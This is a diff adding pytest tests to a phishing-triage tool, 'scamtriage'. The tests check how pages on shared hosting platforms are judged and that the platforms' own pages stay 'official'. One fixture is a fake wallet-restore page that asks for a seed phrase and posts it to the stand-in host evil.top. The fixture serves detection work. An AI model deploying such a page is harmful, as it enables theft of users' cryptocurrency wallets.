@@ -1,0 +1,110 @@
+"""Whose a name or a page is: the platform's or its tenant's, the firm's or the word's, at home or abroad."""
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from scamtriage.assess import Rules, assess
+from scamtriage.knowledge import infrastructure
+from scamtriage.records.assessment import Assessment, Verdict
+from scamtriage.records.evidence import Dossier, Mode
+from scamtriage.records.target import Target
+from scamtriage.render import share
+from scamtriage.targets.parse import parse_target
+from tests.judgement.sites import dossier
+
+RULES = Rules.load()
+SEED_PHRASE = (
+    "<title>Wallet restore</title><h1>Restore your wallet</h1><p>Enter your 12 word seed phrase to synchronise your wallet and restore "
+    'access to your funds.</p><form action="https://evil.top/x" method="post"><textarea name="seed" placeholder="recovery phrase">'
+    "</textarea></form>"
+)
+
+
+def row(url: str, html: str, **site: Any) -> Assessment:
+    target = parse_target(url)
+    assert isinstance(target, Target)
+    found = dossier({"host": target.host, "html": html, "age_days": 6_000, "mx": True, **site})
+    judged = assess(replace(found, target=target), RULES)
+    assert isinstance(judged, Assessment)
+    return judged
+
+
+def nats(judged: Assessment) -> dict[str, float]:
+    return {c.reading.signal: c.log_odds for c in judged.contributions}
+
+
+TENANTS = [
+    "https://sites.google.com/view/wallet-restore",
+    "https://docs.google.com/forms/d/e/x/viewform",
+    "https://forms.office.com/r/abc",
+    "https://discord.gg/abc",
+    "https://user.qzone.qq.com/123",
+    "https://m.facebook.com/restore",
+    "https://telegra.ph/restore",
+    "https://linktr.ee/restore",
+]
+
+
+@pytest.mark.parametrize("url", TENANTS)
+def test_what_a_tenant_does_is_judged_as_anywhere_else_and_the_platform_is_never_blocked(url: str) -> None:
+    judged = row(url, SEED_PHRASE)
+    elsewhere = row("https://restore.blogspot.com/", SEED_PHRASE)
+    assert judged.verdict is elsewhere.verdict is Verdict.NEAR_CERTAIN
+    assert "official" not in judged.states
+    assert not [signal for signal in nats(judged) if signal.startswith(("ben-", "rep-age", "name-"))]
+    assert not share.host_can_be_blocked(judged)
+    assert share.registration(judged) is None
+    assert all(route.kind != "registrar" for route in judged.report_to)
+
+
+@pytest.mark.parametrize("url", TENANTS)
+def test_of_a_tenants_address_alone_nothing_is_known(url: str) -> None:
+    target = parse_target(url)
+    judged = assess(Dossier(line=1, input=url, target=target, mode=Mode.OFFLINE, evidence={}), RULES)
+    assert isinstance(judged, Assessment)
+    assert judged.verdict is Verdict.NO_FINDING
+    assert not judged.contributions
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://www.facebook.com/",
+        "https://facebook.com/login.php?next=x",
+        "https://accounts.google.com/signin/v2",
+        "https://business.facebook.com/overview",
+        "https://www.microsoft.com/en-us/windows",
+    ],
+)
+def test_the_platforms_own_pages_stay_official(url: str) -> None:
+    assert "official" in row(url, "<title>Facebook</title><h1>Facebook</h1><form><input type=password></form>").states
+
+
+def test_the_platforms_name_in_its_own_frame_is_no_claim_of_the_tenant() -> None:
+    html = '<title>The bakery - Facebook</title><meta property="og:site_name" content="Facebook"><p>Bread and cakes since 1998.</p>'
+    html += "<form action=/login><input type=password></form><p>Facebook © 2026"
+    found = nats(row("https://www.facebook.com/thebakery", html))
+    assert not found.keys() & {"content-brand-mismatch", "name-brand-embedded", "combo-brand-ask"}
+
+
+def test_what_stands_left_of_a_lent_name_still_speaks() -> None:
+    assert "name-brand-embedded" in nats(row("https://evil-maybank.my.canva.site/x", SEED_PHRASE))
+
+
+@pytest.mark.parametrize(
+    ("host", "theirs"),
+    [
+        ("sites.google.com", True),
+        ("mail.google.com", False),
+        ("www.facebook.com", True),
+        ("developers.facebook.com", False),
+        ("a.developers.facebook.com", False),
+        ("bit.ly", True),
+        ("linktr.ee", True),
+        ("maybank2u.com.my", False),
+    ],
+)
+def test_where_tenants_lie_is_told_from_where_the_service_speaks(host: str, theirs: bool) -> None:
+    assert infrastructure.is_tenants(host) is theirs
